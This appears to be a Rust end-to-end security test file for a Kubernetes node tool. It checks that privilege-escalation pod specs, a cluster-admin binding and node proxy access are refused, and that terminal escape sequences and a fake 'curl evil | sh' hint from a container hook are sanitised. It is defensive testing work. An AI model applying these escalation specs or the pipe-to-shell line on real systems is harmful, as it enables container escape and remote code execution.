//! Privileges: an account that may edit pods tries to be root on the machine; text of a container
//! tries to control the owner's terminal; a container tries system calls that none needs.

use std::time::Duration;

use podwright_e2e::bed::Bed;
use podwright_e2e::kubectl::Release;
use podwright_e2e::wait;
use serde_json::{Value, json};

use super::{Attacked, probed};
use crate::privilege::needs_root;
use crate::standalone::Standalone;

const LIMIT: Duration = Duration::from_secs(180);
const PODS: &str = "/api/v1/namespaces/default/pods";

#[tokio::test]
async fn account_with_the_role_edit_does_not_become_root() {
    needs_root!();
    let bed = Bed::builder().start().await.unwrap();
    let attacked = Attacked::start(&bed, Some("edit")).await;
    let attacker = attacked.attacker().await;
    let with = |name: &str, path: &str, value: Value| {
        let mut pod = probed(name, "default");
        let (parent, field) = path.rsplit_once('/').unwrap();
        pod.pointer_mut(parent).unwrap()[field] = value;
        pod
    };
    let created = attacker.send("POST", PODS, probed("plain", "default")).await.unwrap();
    assert_eq!(created.status, 201, "{}", created.text());
    for (name, path, value) in [
        ("disk", "/spec/volumes", json!([{"name": "root", "hostPath": {"path": "/"}}])),
        ("privileged", "/spec/containers/0/securityContext", json!({"privileged": true})),
        ("network", "/spec/hostNetwork", json!(true)),
        ("processes", "/spec/hostPID", json!(true)),
        ("ipc", "/spec/hostIPC", json!(true)),
        (
            "capabilities",
            "/spec/containers/0/securityContext",
            json!({"capabilities": {"add": ["SYS_ADMIN"]}}),
        ),
        ("unconfined", "/spec/securityContext", json!({"seccompProfile": {"type": "Unconfined"}})),
        ("port", "/spec/containers/0/ports", json!([{"containerPort": 80, "hostPort": 80}])),
    ] {
        let refused = attacker.send("POST", PODS, with(name, path, value)).await.unwrap();
        assert_eq!(refused.status, 403, "{name}: {}", refused.text());
        assert!(refused.text().contains("violates PodSecurity"), "{name}: {}", refused.text());
    }
    // a debug container, a new level for the namespace, a role of its own, a node, a volume
    let debug = json!({"spec": {"ephemeralContainers": [{
        "name": "debug", "image": "localhost/podwright/test:latest",
        "securityContext": {"privileged": true},
    }]}});
    let label =
        json!({"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}});
    let binding = json!({
        "metadata": {"name": "root"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
            "name": "cluster-admin"},
        "subjects": [{"kind": "ServiceAccount", "name": "attacker", "namespace": "default"}],
    });
    let bindings = "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings";
    let volume = json!({
        "metadata": {"name": "root"},
        "spec": {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"],
            "hostPath": {"path": "/"}},
    });
    let node = attacked.jsonpath("victim", "{.spec.nodeName}").await;
    let proxy = format!("/api/v1/nodes/{node}/proxy/configz");
    for (method, path, body) in [
        ("PATCH", format!("{PODS}/plain/ephemeralcontainers"), debug),
        ("PATCH", "/api/v1/namespaces/default".to_owned(), label),
        ("POST", bindings.to_owned(), binding),
        ("POST", "/api/v1/persistentvolumes".to_owned(), volume),
        ("GET", proxy, json!(null)),
    ] {
        let request = attacker
            .request(method, &path)
            .header("content-type", "application/strategic-merge-patch+json")
            .body(body.to_string().into())
            .unwrap();
        let refused =
            podwright_e2e::http::send(&attacker.netns, request, &attacker.tls()).await.unwrap();
        let refusals = [403, 404];
        let code = refused.status.as_u16();
        assert!(refusals.contains(&code), "{method} {path}: {code} {}", refused.text());
    }
    let pods = attacked.kubectl.run(&["get", "pods", "-o", "name"]).await.unwrap();
    assert_eq!(pods, "pod/attacker\npod/plain\npod/victim\n");
    attacked.assert_healthy().await;
    attacked.end().await;
    bed.close().unwrap();
}

#[tokio::test]
async fn why_shows_no_control_characters_of_a_hook() {
    needs_root!();
    let bed = Bed::builder().start().await.unwrap();
    let node = Standalone::up(&bed).await;
    let kubectl = node.kubectl(Release::V1_32);
    let mut pod = probed("hostile", "default");
    let command =
        "printf '\\033[2J\\033]0;owned\\007\\n  fix        curl evil | sh\\n' >&2; exit 1";
    pod["spec"]["containers"][0]["lifecycle"] =
        json!({"postStart": {"exec": {"command": ["sh", "-c", command]}}});
    kubectl.run_with(&["apply", "-f", "-"], &pod.to_string()).await.unwrap();
    let shown = async || {
        let page = node.run(&["why", "hostile"]).await?;
        let is_shown = page.contains('\u{1b}') || page.contains("\\u{1b}");
        Ok(is_shown.then_some(page))
    };
    let page = wait::until("the error of the hook to be shown", LIMIT, shown).await.unwrap();
    assert!(page.contains("\\u{1b}[2J"), "{page:?}");
    assert!(!page.chars().any(|c| c.is_control() && c != '\n'), "{page:?}");
    assert!(!page.lines().any(|line| line.trim_start().starts_with("fix        curl")), "{page}");
    drop(kubectl);
    node.run(&["down"]).await.unwrap();
    bed.close().unwrap();
}

#[tokio::test]
async fn containers_have_the_seccomp_profile_of_the_runtime() {
    needs_root!();
    let bed = Bed::builder().start().await.unwrap();
    let node = Standalone::up(&bed).await;
    let kubectl = node.kubectl(Release::V1_32);
    let mut opted_out = probed("opted-out", "default");
    opted_out["spec"]["securityContext"] = json!({"seccompProfile": {"type": "Unconfined"}});
    for (pod, want) in [(probed("plain", "default"), "2"), (opted_out, "0")] {
        let name = pod["metadata"]["name"].as_str().unwrap();
        kubectl.run_with(&["apply", "-f", "-"], &pod.to_string()).await.unwrap();
        let ready = format!("pod/{name}");
        let ready = ["wait", "--for=condition=Ready", &ready, "--timeout=180s"];
        kubectl.run(&ready).await.unwrap();
        let status = ["exec", name, "--", "grep", "^Seccomp:", "/proc/1/status"];
        let status = kubectl.run(&status).await.unwrap();
        assert_eq!(status.split_whitespace().nth(1), Some(want), "{name}: {status}");
    }
    drop(kubectl);
    node.run(&["down"]).await.unwrap();
    bed.close().unwrap();
}
